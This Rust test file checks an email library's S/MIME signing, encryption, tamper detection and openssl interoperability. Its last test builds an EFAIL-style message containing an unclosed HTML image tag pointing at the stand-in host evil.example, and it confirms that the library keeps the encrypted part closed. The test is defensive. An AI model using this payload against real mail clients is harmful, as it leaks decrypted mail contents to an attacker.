//! Messages that are signed and encrypted are read with keys: those of our own, and those of `openssl`.

#![cfg(unix)]
#![allow(clippy::unwrap_used, reason = "a test that cannot go on ends")]

#[path = "../../smime/tests/people/mod.rs"]
mod people;

use people::{Folder, certificate, identity, town};
use postkontor_core::message::{Composer, Held, Protection, Signature, When};
use postkontor_core::settings::Sender;
use postkontor_core::{Content, Keys, Layer, Opened};
use postkontor_smime::Capability;
use postkontor_smime::encrypt::Recipient;
use postkontor_smime::sign::Terms;
use postkontor_smime::verify::Anchors;
use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

const DOCUMENT: &str = r#"{"from":"person0@example.com","to":["person2@example.com"],"subject":"Rechnung","text":"Grüße\r\nFrom hier.\r\n","html":"<p>Grüße","attachments":[{"name":"a.txt","part":0}]}"#;

fn keys(names: &[&str]) -> Arc<Keys> {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
    let identities = names.iter().map(|name| identity(town(), name)).collect();
    Arc::new(Keys { identities, trust: Anchors::new(vec![certificate(town(), "ca")]), known: Vec::new(), now })
}

/// Signed where there is somebody to sign, and encrypted where there are recipients.
fn composed(signature: Option<Signature>, recipients: Vec<Recipient>) -> Vec<u8> {
    let sender = Sender::default();
    let encrypt = if recipients.is_empty() { When::Never } else { When::Always };
    let held = Held { signature: signature.map(Arc::new), recipients };
    let protection = Protection { certificates: &held, sign: held.signature.is_some(), encrypt, to_self: false };
    let attached: [&[u8]; 1] = [b"attached\n"];
    let mut composed = Composer::new(&sender).unwrap().protected_by(protection).compose(DOCUMENT, &attached).unwrap();
    let (mut all, mut block) = (Vec::new(), vec![0; 10_000]);
    loop {
        match composed.read(&mut block).unwrap() {
            0 => return all,
            count => all.extend_from_slice(&block[..count]),
        }
    }
}

fn signature(name: &str) -> Option<Signature> {
    Some(Signature { identity: identity(town(), name), terms: Terms::default() })
}

fn recipients(capabilities: Option<Vec<Capability>>) -> Vec<Recipient> {
    vec![Recipient { capabilities, ..Recipient::new(certificate(town(), "person2")) }]
}

fn read(raw: &[u8], names: &[&str]) -> (Opened, Content) {
    let opened = Opened::new(raw.to_vec()).with_keys(keys(names));
    let content = opened.content();
    (opened, content)
}

fn codes(layer: &Layer) -> Vec<&str> {
    layer.faults.iter().chain(layer.signers.iter().flat_map(|signer| &signer.faults)).map(|fault| fault.code.as_str()).collect()
}

fn kinds(content: &Content) -> Vec<(&str, &str)> {
    content.smime.iter().map(|layer| (layer.kind.as_str(), layer.status.as_str())).collect()
}

#[test]
fn a_signature_is_verified_and_the_message_stays_as_it_is() {
    for name in ["person0", "person1"] {
        let raw = composed(signature(name), vec![]);
        for lines in [raw.clone(), String::from_utf8(raw.clone()).unwrap().replace("\r\n", "\n").into_bytes()] {
            let (_, content) = read(&lines, &[]);
            let expected = if name == "person0" { ("good", vec![]) } else { ("bad", vec!["smime.other_address"]) };
            assert_eq!((kinds(&content), codes(&content.smime[0])), (vec![("signed", expected.0)], expected.1));
            assert_eq!((content.security.as_deref(), content.parts.len()), (Some("signed"), 2), "the signature stays a part");
            let signer = &content.smime[0].signers[0];
            assert_eq!((signer.addresses.as_slice(), signer.signed_at.is_some()), (&[format!("{name}@example.com")][..], true));
        }
        let text = String::from_utf8(raw).unwrap();
        let changed = text.replace("hier", "dort");
        assert_ne!(changed, text);
        assert_eq!(codes(&read(changed.as_bytes(), &[]).1.smime[0])[0], "smime.content_changed");
    }
    let plain = composed(None, vec![]);
    assert_eq!(read(&plain, &[]).1.smime, []);
    assert_eq!(Opened::new(composed(signature("person0"), vec![])).content().smime, [], "without keys nothing is looked at");
}

#[test]
fn what_was_encrypted_is_read_like_any_message() {
    for (capabilities, cipher, faults) in
        [(None, "AES-256-CBC", vec!["smime.no_integrity"]), (Some(Capability::own()), "AES-256-GCM", vec![])]
    {
        let raw = composed(signature("person0"), recipients(capabilities));
        let (opened, content) = read(&raw, &["person3", "person2"]);
        assert_eq!(kinds(&content), [("encrypted", "opened"), ("signed", "good")]);
        assert_eq!((content.smime[0].cipher.as_deref(), codes(&content.smime[0])), (Some(cipher), faults));
        assert_eq!(
            (content.subject.as_str(), content.text.as_str(), content.size),
            ("Rechnung", "Grüße\r\nFrom hier.\r\n", raw.len() as u64)
        );
        assert_eq!((content.security.as_deref(), content.parts[0].file_name.as_str()), (Some("encrypted"), "a.txt"));
        assert_eq!(content.from[0].address.as_deref(), Some("person0@example.com"));
        assert_eq!(content.parts[0].section, None, "the server has no such part");
        assert_eq!((opened.part(0).unwrap().as_ref(), opened.bytes(None).unwrap().as_ref()), (&b"attached\n"[..], raw.as_slice()));
        let (opened, content) = read(&raw, &["person3"]);
        assert_eq!((kinds(&content), codes(&content.smime[0])), (vec![("encrypted", "closed")], vec!["smime.other_recipients"]));
        assert_eq!((content.text.as_str(), content.parts.len()), ("", 1), "it stays a file");
        assert!(opened.part(0).unwrap().len() > 500);
    }
}

/// Signed, encrypted and signed once more, by `openssl` with indefinite lengths, opaque and with a type that a gateway has forgotten.
#[test]
fn three_layers_of_openssl_are_opened() {
    let folder = Folder::new();
    folder.write("0", "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGrüße von innen\r\n");
    let [pem, key, to] = ["person0.pem", "person0.key", "person2.pem"].map(|name| town().path(name).display().to_string());
    let sign = |from: &str, to: &str| {
        folder.openssl(&[
            "cms",
            "-sign",
            "-stream",
            "-nodetach",
            "-binary",
            "-in",
            from,
            "-outform",
            "DER",
            "-out",
            "der",
            "-signer",
            &pem,
            "-inkey",
            &key,
        ]);
        mime(&folder, "signed-data", to);
    };
    sign("0", "1");
    folder.openssl(&["cms", "-encrypt", "-stream", "-binary", "-aes256", "-in", "1", "-outform", "DER", "-out", "der", &to]);
    mime(&folder, "enveloped-data", "2");
    sign("2", "3");
    let head = b"From: person0@example.com\r\nSubject: dreifach\r\n";
    let raw = [&head[..], &folder.read("3")].concat();
    let (_, content) = read(&raw, &["person2"]);
    assert_eq!(kinds(&content), [("signed", "good"), ("encrypted", "opened"), ("signed", "good")], "{content:?}");
    assert_eq!((content.text.as_str(), content.subject.as_str(), content.parts.len()), ("Grüße von innen\r\n", "dreifach", 0));
    let forgotten =
        String::from_utf8(raw).unwrap().replacen("application/pkcs7-mime; smime-type=signed-data", "application/octet-stream", 1);
    assert_eq!(read(forgotten.as_bytes(), &["person2"]).1.text, "Grüße von innen\r\n");
}

/// A part with what `openssl` wrote.
fn mime(folder: &Folder, kind: &str, to: &str) {
    let base64 = String::from_utf8(folder.openssl(&["base64", "-in", "der"])).unwrap().replace('\n', "\r\n");
    folder.write(
        to,
        format!(
            "Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64}"
        ),
    );
}

/// EFAIL: what is encrypted between parts of an attacker's stays closed.
#[test]
fn an_encrypted_part_beside_others_stays_closed() {
    let raw = composed(None, recipients(None));
    let text = String::from_utf8(raw).unwrap();
    let at = text.find("Content-Type: application/pkcs7-mime").unwrap();
    let mixed = format!(
        "From: mallory@example.com\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--x\r\n{}\r\n--x--\r\n",
        &text[at..]
    );
    let (_, content) = read(mixed.as_bytes(), &["person2"]);
    assert!(content.smime.is_empty() && !content.html.contains("Gr") && content.parts.len() == 1, "{content:?}");
}
